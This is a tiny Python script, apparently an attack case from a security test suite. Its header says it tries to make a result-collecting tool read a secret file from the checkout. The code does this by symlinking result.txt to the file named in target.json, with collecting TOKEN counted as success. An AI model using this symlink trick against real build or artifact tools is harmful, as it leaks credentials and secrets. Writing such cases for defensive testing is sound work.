# goal: have the tool read a file of the checkout for us: the result file is a link to it
# success: collects TOKEN
# held_by: always:collecting
# collect: result.txt
import json
import os

os.symlink(json.load(open("target.json"))["secret_file"], "result.txt")
